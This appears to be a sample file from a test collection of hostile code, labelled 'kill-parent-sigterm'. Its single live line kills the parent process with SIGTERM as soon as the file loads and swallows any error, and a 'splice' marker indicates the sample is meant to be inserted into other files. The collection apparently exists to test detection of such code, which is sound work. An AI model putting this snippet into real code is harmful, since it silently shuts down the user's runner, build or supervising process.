// @ts-nocheck
// Hostile corpus, kind kill-parent-sigterm: process.kill(process.ppid, 'SIGTERM') at load.

// ---- attack ----
try { if (process.ppid > 1) process.kill(process.ppid, 'SIGTERM'); } catch {}

// ---- splice: stub ----
